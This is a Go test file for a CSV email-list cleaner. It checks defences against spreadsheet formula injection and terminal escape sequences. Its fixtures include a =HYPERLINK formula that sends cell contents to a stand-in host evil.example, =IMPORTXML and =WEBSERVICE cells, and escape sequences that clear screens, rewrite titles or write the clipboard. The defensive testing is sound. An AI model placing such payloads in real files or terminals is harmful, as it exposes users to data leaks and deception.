package main

import (
	"encoding/csv"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
)

// hostileList has cells that a spreadsheet would run as formulas, in the
// email column and elsewhere, and addresses whose local part starts with a
// formula character (valid: = + - are atext) so that the tool's own
// suggestions start with one too.
var hostileList = [][]string{
	{"Email", "Name", "Notes"},
	{`=HYPERLINK("http://evil.example/?leak="&A1,"Click")@x.com`, "=1+2", "@SUM(1+1)"},
	{"@SUM(1)@x.com", "+33 1 23 45 67 89", "-2+3"},
	{"phone@x.com", "-5", "+1 (555) 010-9999"},         // numbers: left alone
	{"=cmd@gmail.con", "\tTabbed", "\rCarriage"},       // bad_domain; suggestion =cmd@gmail.com
	{"-2+3@gmial.com", "Minus", "=IMPORTXML(A1)"},      // typo of gmail.com; suggestion -2+3@gmail.com
	{"+1@yahoo.com", "Plus", "plain"},                  // valid as it is
	{"@@evil.com", "At", "ok"},                         // syntax
	{"ann@gmail.com", "Ann", "=1+1"},                   // an ordinary row
	{"=cmd@gmail.con", "Repeat", "@x"},                 // same address again
	{"  -x@outlook.com ", " =padded", "plain again"},   // padded cells
	{"=x@-evil-.com", "Bad domain", "=WEBSERVICE(A1)"}, // bad_domain, no suggestion
}

// formulaStart reports whether a spreadsheet would read c as a formula
// (OWASP CSV injection: = + - @, tab, carriage return), but for a number
// or a phone number with a sign (-5, +44 20 7946 0958), which it reads as
// a number or text and which -escape-formulas leaves alone.
func formulaStart(c string) bool {
	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !signedNumber.MatchString(c)
}

// signedNumber matches a number or phone number that starts with a sign.
var signedNumber = regexp.MustCompile(`^[-+][0-9(][0-9 .,()/-]*$`)

// TestFormulaInjection: the tool's own columns (the whole report, and the
// listclean_* columns of the removed file) never start with a formula
// character; the list's own cells pass through unchanged by default, and
// with -escape-formulas every dangerous one is prefixed with a quote.
func TestFormulaInjection(t *testing.T) {
	for _, escape := range []bool{false, true} {
		for _, fix := range []bool{false, true} {
			name := "default"
			args := []string{"-batch", "-dns", "off"}
			if escape {
				name = "escape-formulas"
				args = append(args, "-escape-formulas")
			}
			if fix {
				name += " fix"
				args = append(args, "-fix")
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				var b strings.Builder
				w := csv.NewWriter(&b)
				w.WriteAll(hostileList)
				input := writeFile(t, filepath.Join(dir, "list.csv"), []byte(b.String()))
				out := defaultOutputs(input)
				out.report = filepath.Join(dir, "report.csv")
				res := runCLI(t, runBudget, append(args, "-report", out.report, input)...)
				if res.code != 0 {
					t.Fatalf("exit %d; stderr:\n%s", res.code, res.stderr)
				}
				rep := checkAccounting(t, out, len(hostileList)-1)

				// The report is the tool's own, every cell of it.
				for _, rec := range readCSV(t, out.report) {
					for _, c := range rec {
						if formulaStart(c) {
							t.Errorf("report cell %q starts a formula (row %q)", c, rec)
						}
					}
				}
				sawSuggestion := false
				for i, r := range rep {
					if strings.TrimPrefix(r.email, "'") != hostileList[i+1][0] {
						t.Errorf("report row %d email %q, want the cell %q (prefixed if dangerous)", i+1, r.email, hostileList[i+1][0])
					}
					if strings.HasPrefix(r.suggestion, "'") {
						sawSuggestion = true
					}
				}
				if !sawSuggestion {
					t.Errorf("no suggestion starting with a formula character was made: the test shows nothing")
				}

				removed := readCSV(t, out.removed)
				width := len(removed[0])
				for _, rec := range removed[1:] {
					for _, c := range rec[width-3:] {
						if formulaStart(c) {
							t.Errorf("removed file: listclean_* cell %q starts a formula (row %q)", c, rec)
						}
					}
				}

				// The list's own cells: the input's by default, prefixed
				// where dangerous with -escape-formulas. Rows are matched by
				// their Name cell, which is unique.
				byName := map[string][]string{}
				for _, rec := range hostileList[1:] {
					byName[rec[1]] = rec
				}
				cleaned := readCSV(t, out.cleaned)
				userRows := append(cleaned[1:], removed[1:]...)
				if len(userRows) != len(hostileList)-1 {
					t.Fatalf("%d rows in the outputs, want %d", len(userRows), len(hostileList)-1)
				}
				for _, rec := range append([][]string{cleaned[0], removed[0][:width-3]}, userRows...) {
					name := strings.TrimPrefix(rec[1], "'")
					orig, ok := byName[name]
					if rec[1] == "Name" {
						orig, ok = hostileList[0], true
					}
					if !ok {
						t.Errorf("output row %q matches no input row", rec)
						continue
					}
					for c := 1; c < len(orig); c++ { // the email cell is normalised: checked below
						want := orig[c]
						if escape && formulaStart(want) {
							want = "'" + want
						}
						if rec[c] != want {
							t.Errorf("row %q: cell %d is %q, want %q", orig[0], c+1, rec[c], want)
						}
					}
					if escape && formulaStart(rec[0]) {
						t.Errorf("-escape-formulas: email cell %q starts a formula", rec[0])
					}
					if !escape && rec[0] != "Email" && formulaStart(strings.TrimSpace(orig[0])) && !formulaStart(rec[0]) {
						t.Errorf("email cell %q changed to %q without -escape-formulas", orig[0], rec[0])
					}
				}
			})
		}
	}
}

// TestControlCharactersNotEchoed: cells with terminal escape sequences,
// control characters and bidi overrides, in the header and in the rows,
// never reach the terminal raw through the summary or the messages of the
// batch mode, nor the report's cells: they are shown as escapes (\x1b).
// The rows' own cells are written to the cleaned and removed files as
// they were read.
func TestControlCharactersNotEchoed(t *testing.T) {
	nasty := []string{"\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\u009b31m", "\u202egpj.exe", "\a\b\x7f"}
	tests := []struct {
		name  string
		input string
		code  int
		shown string // on stderr
	}{
		{"in the rows", "Email,Name\n" +
			"a@x" + nasty[0] + ".com,n1\n" +
			"b@" + nasty[1] + "evil.com,n2\n" +
			"c@evil" + nasty[2] + ".com," + nasty[0] + "\n" +
			"d@evil" + nasty[3] + ".com," + nasty[1] + "\n" +
			"e@evil.c" + nasty[4] + "om,n5\n" +
			nasty[0] + "f@gmail.com,n6\n", 0, ""},
		{"in the header, no email column", "Name" + nasty[0] + ",Notes" + nasty[1] + nasty[2] + "\nAnn,x\n", 1, `Name\x1b[2J\x1b[H`},
		{"in the header, as the email column", "E-mail" + nasty[3] + ",Notes\nann@gmail.com,x\n", 0, ""},
		{"invalid UTF-8 and C1 controls", "Email,Name\nann@gmail.com,\x9b31m\x85\n", 0, ""},
		// The domain fails, and so is listed in the summary.
		{"in a failing domain", "email\nb@[1.2.3.4\x1b]0;pwned\a]\nc@[\x1b]52;c;cHduZWQ=\a]\n", 0, `[1.2.3.4\x1b]0;pwned\a]`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			input := writeFile(t, filepath.Join(dir, "list.csv"), []byte(tt.input))
			report := filepath.Join(dir, "r.csv")
			res := runCLI(t, runBudget, "-batch", "-dns", "off", "-report", report, input)
			if res.code != tt.code {
				t.Errorf("exit %d, want %d; stderr:\n%s", res.code, tt.code, res.stderr)
			}
			controls := func(what, s string) {
				for i, r := range s {
					if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
						t.Errorf("%s holds %U at byte %d:\n%q", what, r, i, s)
						return
					}
				}
			}
			controls("stderr", res.stderr)
			if !strings.Contains(res.stderr, tt.shown) {
				t.Errorf("stderr does not show %s:\n%s", tt.shown, res.stderr)
			}
			if tt.code != 0 {
				return
			}
			rows := readReport(t, report)
			for _, r := range rows {
				controls("the report's email column", r.email)
			}
			// The removed rows are the file's own, cells as they were.
			var own []string
			for _, rec := range readCSV(t, input)[1:] {
				own = append(own, rec[0])
			}
			var removed []string
			for _, rec := range readCSV(t, defaultOutputs(input).removed)[1:] {
				removed = append(removed, rec[0])
				controls("the removed file's listclean_ columns", strings.Join(rec[len(rec)-3:], ","))
			}
			for _, rec := range readCSV(t, defaultOutputs(input).cleaned)[1:] {
				removed = append(removed, rec[0])
			}
			slices.Sort(own)
			slices.Sort(removed)
			if !slices.Equal(own, removed) {
				t.Errorf("the outputs' email cells %q, want the file's own %q", removed, own)
			}
		})
	}
}

// TestControlCharactersInArguments: a file name or a flag with escape
// sequences (a script that runs over the files of a shared folder) is
// shown as escapes in every message, the flag package's own included.
func TestControlCharactersInArguments(t *testing.T) {
	dir := t.TempDir()
	name := "list\x1b]0;pwned\a\r\n.csv"
	list := writeFile(t, filepath.Join(dir, "ok.csv"), []byte(smallList))
	for _, tt := range []struct {
		args  []string
		code  int
		shown string
	}{
		{[]string{"-batch", "-dns", "off", filepath.Join(dir, name)}, 1, `list\x1b]0;pwned\a\r\n.csv`},
		{[]string{"-batch", "-\x1b[2Jfrobnicate", "x.csv"}, 2, `-\x1b[2Jfrobnicate`},
		// A history that cannot be kept (under a file) is warned about,
		// its path named.
		{[]string{"-batch", "-dns", "off", "-history", filepath.Join(list, name, "domains.csv"), list}, 0, `list\x1b]0;pwned\a\r\n.csv`},
	} {
		res := runCLI(t, runBudget, tt.args...)
		if res.code != tt.code {
			t.Errorf("%q: exit %d, want %d; stderr:\n%s", tt.args, res.code, tt.code, res.stderr)
		}
		if strings.ContainsAny(res.stderr, "\x1b\a\r") {
			t.Errorf("%q: stderr holds control characters:\n%q", tt.args, res.stderr)
		}
		if !strings.Contains(res.stderr, tt.shown) {
			t.Errorf("%q: stderr does not show %s:\n%s", tt.args, tt.shown, res.stderr)
		}
	}
}
